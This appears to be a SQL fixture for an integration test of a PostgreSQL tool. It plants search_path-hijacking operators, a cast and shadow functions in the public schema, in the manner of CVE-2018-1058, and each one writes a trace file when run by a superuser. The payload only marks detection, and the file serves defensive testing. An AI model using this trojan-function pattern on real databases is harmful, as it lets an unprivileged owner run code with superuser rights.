-- hostile.sql: a database whose unprivileged owner plants code for whoever reads it.
--
-- Run by integration case w as that owner, with psql's variable "trace" set to a directory the
-- server may write. Tables keyed by types that pg_catalog has no exact operator for (varchar, a
-- domain over bigint) and by an enum of the owner's, and, in public, where every default
-- search_path looks: operators for exactly those types, functions that shadow built-ins for
-- varchar, and a cast of the enum to text. Each planted function calls public.planted(), which
-- does nothing for an ordinary role and, in a superuser's session, writes a file into the trace
-- directory named after itself (as CVE-2018-1058's exploits do with COPY ... TO PROGRAM). They
-- all return what the built-in would, so only the trace tells that one ran.

CREATE TABLE public.trace_dir (path text NOT NULL);
INSERT INTO public.trace_dir VALUES (:'trace');
CREATE FUNCTION public.planted(what text) RETURNS void LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
  IF pg_catalog.current_setting('is_superuser') = 'on' THEN
    EXECUTE pg_catalog.format('COPY (SELECT %L, %L) TO %L', current_user, what,
                              (SELECT path FROM public.trace_dir) || '/' || what || '-'
                              || pg_catalog.pg_backend_pid());
  END IF;
END $f$;

CREATE DOMAIN public.dbig AS bigint;
CREATE TYPE public.mood AS ENUM ('sad', 'ok', 'happy', 'ecstatic');
CREATE TABLE public.by_varchar (k varchar(40) PRIMARY KEY, v text);
CREATE TABLE public.by_domain (k public.dbig PRIMARY KEY, v text);
CREATE TABLE public.by_enum (m public.mood, n int, v text, PRIMARY KEY (m, n));
CREATE TABLE public.by_text_name (k varchar(40) NOT NULL UNIQUE, v text);
INSERT INTO public.by_varchar
  SELECT 'key-' || pg_catalog.lpad(i::text, 6, '0'), pg_catalog.repeat('v', 200)
  FROM pg_catalog.generate_series(1, 4000) i;
INSERT INTO public.by_domain
  SELECT i * 7 - 9000, pg_catalog.repeat('d', 200) FROM pg_catalog.generate_series(1, 4000) i;
INSERT INTO public.by_enum
  SELECT (ARRAY['sad', 'ok', 'happy', 'ecstatic']::public.mood[])[1 + i % 4], i, pg_catalog.repeat('e', 200)
  FROM pg_catalog.generate_series(1, 4000) i;
INSERT INTO public.by_text_name
  SELECT 'name-' || i, pg_catalog.repeat('n', 200) FROM pg_catalog.generate_series(1, 4000) i;
-- A key whose operators are an extension's, not pg_catalog's (citext is a trusted extension,
-- which the database's owner may create): compared as text, its ranges would overlap.
CREATE EXTENSION citext WITH SCHEMA public;
CREATE TABLE public.by_citext (k public.citext PRIMARY KEY, v text);
INSERT INTO public.by_citext
  SELECT CASE WHEN i % 2 = 0 THEN 'K' ELSE 'k' END || pg_catalog.lpad(i::text, 6, '0'), pg_catalog.repeat('t', 200)
  FROM pg_catalog.generate_series(1, 4000) i;
CREATE SEQUENCE public.hostile_seq;
SELECT pg_catalog.setval('public.hostile_seq', 42);

-- Operators for the key types, exact matches where pg_catalog has only text's and int8's.
CREATE FUNCTION public.spring(what text) RETURNS bool LANGUAGE plpgsql VOLATILE AS $f$
BEGIN PERFORM public.planted(what); RETURN true; END $f$;
DO $d$
DECLARE
  op text;
  name text;
BEGIN
  FOR op, name IN VALUES ('=', 'eq'), ('<>', 'ne'), ('<', 'lt'), ('<=', 'le'), ('>', 'gt'), ('>=', 'ge') LOOP
    EXECUTE pg_catalog.format('CREATE FUNCTION public.v_%s(varchar, varchar) RETURNS bool LANGUAGE sql VOLATILE AS %L',
                              name, pg_catalog.format('SELECT public.spring(%L) AND $1::text %s $2::text', 'varchar_' || name, op));
    EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = public.v_%s)', op, name);
    EXECUTE pg_catalog.format('CREATE FUNCTION public.d_%s(public.dbig, public.dbig) RETURNS bool LANGUAGE sql VOLATILE AS %L',
                              name, pg_catalog.format('SELECT public.spring(%L) AND $1::bigint %s $2::bigint', 'domain_' || name, op));
    EXECUTE pg_catalog.format('CREATE OPERATOR public.%s (LEFTARG = public.dbig, RIGHTARG = public.dbig, FUNCTION = public.d_%s)', op, name);
  END LOOP;
END $d$;
CREATE FUNCTION public.v_concat(varchar, varchar) RETURNS text LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('varchar_concat') THEN $1::text || $2::text END $f$;
CREATE OPERATOR public.|| (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = public.v_concat);

-- Functions that shadow built-ins for varchar, which the built-ins take only as text.
DO $d$
DECLARE
  fn text;
BEGIN
  FOREACH fn IN ARRAY ARRAY['md5', 'length', 'octet_length', 'quote_literal', 'quote_nullable',
                            'quote_ident', 'lower', 'upper', 'btrim', 'textlen'] LOOP
    EXECUTE pg_catalog.format('CREATE FUNCTION public.%I(varchar) RETURNS text LANGUAGE sql VOLATILE AS %L', fn,
                              pg_catalog.format('SELECT CASE WHEN public.spring(%L) THEN pg_catalog.%I($1::text)::text END',
                                                fn || '_varchar', fn));
  END LOOP;
END $d$;

-- A cast of the owner's enum to text: "m::text" runs it.
CREATE FUNCTION public.mood_text(public.mood) RETURNS text LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('mood_to_text') THEN pg_catalog.textin(pg_catalog.enum_out($1)) END $f$;
CREATE CAST (public.mood AS text) WITH FUNCTION public.mood_text(public.mood);

-- Shadows of built-ins for the types they take, and the owner's search_path setting that puts
-- public before pg_catalog in every new session: then even an exact match in pg_catalog loses
-- to these, unless the session sets its own search_path.
CREATE FUNCTION public.quote_ident(text) RETURNS text LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('quote_ident_text') THEN pg_catalog.quote_ident($1) END $f$;
CREATE FUNCTION public.quote_literal(text) RETURNS text LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('quote_literal_text') THEN pg_catalog.quote_literal($1) END $f$;
CREATE FUNCTION public.replace(text, text, text) RETURNS text LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('replace_text') THEN pg_catalog.replace($1, $2, $3) END $f$;
CREATE FUNCTION public.format_type(oid, integer) RETURNS text LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('format_type') THEN pg_catalog.format_type($1, $2) END $f$;
CREATE FUNCTION public.current_database() RETURNS name LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('current_database') THEN pg_catalog.current_database() END $f$;
CREATE FUNCTION public.now() RETURNS timestamptz LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('now') THEN pg_catalog.now() END $f$;
CREATE FUNCTION public.to_char(timestamptz, text) RETURNS text LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('to_char') THEN pg_catalog.to_char($1, $2) END $f$;
CREATE FUNCTION public.unnest(anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql VOLATILE
  AS $f$ BEGIN PERFORM public.planted('unnest'); RETURN QUERY SELECT pg_catalog.unnest($1); END $f$;
CREATE FUNCTION public.pg_relation_size(regclass) RETURNS bigint LANGUAGE sql VOLATILE
  AS $f$ SELECT CASE WHEN public.spring('pg_relation_size') THEN pg_catalog.pg_relation_size($1) END $f$;
DO $d$
BEGIN
  EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = public, pg_catalog', pg_catalog.current_database());
END $d$;
